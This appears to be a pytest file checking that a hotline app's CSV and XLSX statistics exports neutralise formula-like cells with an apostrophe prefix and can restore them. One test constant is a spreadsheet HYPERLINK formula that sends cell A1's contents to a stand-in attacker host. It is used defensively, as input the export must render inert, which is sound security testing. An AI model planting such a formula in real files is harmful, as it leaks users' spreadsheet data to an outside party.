"""Exports are safe: a cell that looks like a formula is text in every CSV and in the XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from sqlalchemy import update

from hotline_core.models import Unit
from hotline_web.exports import csv_text, restore_cell, safe_cell
from tests.stats.test_pages import sign_in

pytestmark = pytest.mark.demo_city

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def rename_units(runtime, name):  # type: ignore[no-untyped-def]
    with runtime.db.transaction() as s:
        s.execute(update(Unit).values(name_zh=name, name_en=name))


def test_the_stats_csv_neutralises_a_unit_named_like_a_formula(app, runtime, dataset):
    rename_units(runtime, FORMULA)
    body = sign_in(app, "leader").get("/stats/export.csv?period=month&date=2026-11-23").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[1][0] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_ranking_csv_neutralises_formula_cells(app, runtime, dataset):
    rename_units(runtime, "@SUM(1+1)")
    body = sign_in(app, "leader").get("/stats/ranking.csv?month=2026-11").get_data(as_text=True)
    assert "'@SUM(1+1)" in body and ",@SUM" not in body


def test_the_xlsx_export_stores_formula_like_names_as_text(app, runtime, dataset):
    rename_units(runtime, FORMULA)
    data = sign_in(app, "leader").get("/stats/export.xlsx?period=month&date=2026-11-23").get_data()
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" not in sheet
    assert "HYPERLINK" in strings


def test_every_formula_start_is_neutralised_but_numbers_stay_numbers():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "ok")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\t=1",
        "'\r=1",
        "ok",
    ]
    assert safe_cell(-3) == -3 and safe_cell(None) is None
    assert csv_text([["-1", -1]]) == "\ufeff'-1,-1\r\n"


@pytest.mark.parametrize(
    "value", ["=1", "+8613800138000", "-1", "@A", "\t=1", "\r=1", "'=1", "''+1", "'", "'ok", "ok", ""]
)
def test_restoring_a_neutralised_cell_gives_the_value_back(value):
    assert restore_cell(str(safe_cell(value))) == value
